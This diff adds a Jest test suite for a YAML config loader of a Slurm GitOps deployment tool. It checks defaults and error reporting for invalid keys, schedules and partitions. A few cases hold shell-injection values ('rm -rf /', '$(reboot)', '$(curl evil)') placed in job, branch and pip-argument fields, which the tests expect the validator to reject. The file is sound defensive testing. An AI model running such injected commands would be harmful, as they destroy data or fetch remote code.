@@ -1,0 +1,164 @@
+import { describe, expect, it } from '@jest/globals'
+import { readFileSync } from 'node:fs'
+import { parseDocument } from 'yaml'
+import { parseConfig } from '../../src/config/load.js'
+import { UserError } from '../../src/errors/user-error.js'
+
+const exampleText = readFileSync('examples/caqrn/.github/slurm-gitops.yml', 'utf8')
+const FILE = '.github/slurm-gitops.yml'
+
+/** The example config with one value changed (a YAML path, as in the error messages). */
+function withChange(path: (string | number)[], value: unknown): string {
+  const document = parseDocument(exampleText)
+  if (value === undefined) document.deleteIn(path)
+  else document.setIn(path, value)
+  return document.toString()
+}
+
+function problemsOf(text: string) {
+  try {
+    parseConfig(text, FILE)
+  } catch (error) {
+    if (error instanceof UserError) return error.problems
+    throw error
+  }
+  throw new Error('expected the config to be rejected')
+}
+
+describe('config: the example', () => {
+  it('loads with every default filled in', () => {
+    const config = parseConfig(exampleText, FILE)
+    expect(config.project).toMatchObject({
+      name: 'caqrn',
+      package: 'caqrn',
+      envPrefix: 'CAQRN',
+      smokeCommand: "python -c 'import caqrn'",
+      source: 'fetch',
+      pipArgs: [],
+      keepReleases: 5
+    })
+    expect(config.deployments.map(d => [d.branch, d.environment, d.partition, d.root])).toEqual([
+      ['main', 'production', 'standard', '/projects/caqrn/production'],
+      ['develop', 'development', 'dev', '/projects/caqrn/development']
+    ])
+    expect(config.sandbox).toMatchObject({
+      partition: 'dev',
+      root: '/projects/caqrn/sandboxes',
+      dataDir: '/projects/caqrn/data/development'
+    })
+    expect(config.cluster).toMatchObject({ port: 22, loginShell: true, connectTimeoutSeconds: 20 })
+  })
+})
+
+describe('config: bad input names where and what is allowed', () => {
+  const cases: { name: string; text: string; where: string; message: RegExp; line?: string }[] = [
+    {
+      name: 'unknown key',
+      text: withChange(['project', 'pythn'], 'python3'),
+      where: 'project.pythn',
+      message: /unknown key "pythn"/
+    },
+    {
+      name: 'wrong type',
+      text: withChange(['cluster', 'port'], 'twenty-two'),
+      where: 'cluster.port',
+      message: /expected number/
+    },
+    { name: 'missing key', text: withChange(['cluster', 'host'], undefined), where: 'cluster.host', message: /required/ },
+    {
+      name: 'Slurm-invalid cron step',
+      text: withChange(['deployments', 'main', 'jobs', 0, 'schedule'], '*/1 * * * *'),
+      where: 'deployments.main.jobs[0].schedule',
+      message: /step/,
+      line: "schedule: '*/1"
+    },
+    {
+      name: 'day names in a range',
+      text: withChange(['deployments', 'main', 'jobs', 0, 'schedule'], '0 2 * * mon-fri'),
+      where: 'deployments.main.jobs[0].schedule',
+      message: /mon/
+    },
+    {
+      name: 'bad time limit',
+      text: withChange(['deployments', 'develop', 'jobs', 0, 'time'], '1 hour'),
+      where: 'deployments.develop.jobs[0].time',
+      message: /minutes|format/i
+    },
+    {
+      name: 'time over the partition maximum',
+      text: withChange(['deployments', 'develop', 'jobs', 0, 'time'], '03:00:00'),
+      where: 'deployments.develop.jobs[0].time',
+      message: /exceeds partition "dev" maximum 01:00:00/
+    },
+    {
+      name: 'unknown partition',
+      text: withChange(['deployments', 'main', 'partition'], 'gpu'),
+      where: 'deployments.main.partition',
+      message: /partition "gpu" is not in cluster.partitions/
+    },
+    {
+      name: 'unsafe job name',
+      text: withChange(['deployments', 'main', 'jobs', 0, 'name'], 'daily; rm -rf /'),
+      where: 'deployments.main.jobs[0].name',
+      message: /letter/
+    },
+    {
+      name: 'unsafe branch name',
+      text: exampleText.replace('  main:\n', '  "main$(reboot)":\n'),
+      where: 'deployments.main$(reboot)',
+      message: /branch/i
+    },
+    {
+      name: 'forbidden #SCRON option',
+      text: withChange(['deployments', 'main', 'jobs', 0, 'sbatch'], ['--array=1-3']),
+      where: 'deployments.main.jobs[0].sbatch',
+      message: /--array/
+    },
+    {
+      name: 'relative root',
+      text: withChange(['project', 'root'], 'projects/caqrn'),
+      where: 'project.root',
+      message: /absolute/
+    },
+    {
+      name: 'two deployments, one environment',
+      text: withChange(['deployments', 'develop', 'environment'], 'production'),
+      where: 'deployments.develop.environment',
+      message: /already used by branch "main"/
+    },
+    {
+      name: 'pip argument with shell characters',
+      text: withChange(['project', 'pipArgs'], ['--index-url=$(curl evil)']),
+      where: 'project.pipArgs[0]',
+      message: /one pip argument/
+    }
+  ]
+
+  it.each(cases)('$name', ({ text, where, message, line }) => {
+    const problems = problemsOf(text)
+    const problem = problems.find(p => p.where === where)
+    expect(problem).toBeDefined()
+    expect(problem!.message).toMatch(message)
+    expect(problem!.location?.file).toBe(FILE)
+    // `line` names the text the reported line must hold; otherwise any line will do.
+    const expectedLine = line ? text.split('\n').findIndex(l => l.includes(line)) + 1 : expect.any(Number)
+    expect(problem!.location?.line).toEqual(expectedLine)
+  })
+
+  it('reports invalid YAML with its line', () => {
+    const problems = problemsOf('cluster:\n  host: [unclosed\n')
+    expect(problems[0]!.message).toMatch(/invalid YAML/)
+    expect(problems[0]!.location?.line).toBeGreaterThan(0)
+  })
+
+  it('rejects a document that is not a mapping', () => {
+    expect(problemsOf('- just\n- a list\n')[0]!.message).toMatch(/mapping/)
+  })
+
+  it('reports every problem at once, not only the first', () => {
+    const text = withChange(['cluster', 'port'], 0).replace('keepReleases: 5', 'keepReleases: 1')
+    expect(problemsOf(text).map(p => p.where)).toEqual(
+      expect.arrayContaining(['cluster.port', 'project.keepReleases'])
+    )
+  })
+})
